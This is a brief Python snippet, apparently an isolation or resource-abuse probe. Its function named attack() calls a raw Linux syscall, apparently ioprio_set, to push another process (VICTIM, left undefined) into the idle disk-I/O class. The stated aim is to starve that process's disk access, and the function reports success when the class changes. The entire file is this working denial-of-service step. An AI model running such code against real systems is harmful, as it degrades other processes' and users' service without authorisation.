"""Starve another process's disk. Success: its class changed."""

import ctypes


def attack():
    libc = ctypes.CDLL(None)
    if libc.syscall(251, 1, VICTIM, 3 << 13) == 0:
        return "class=idle"
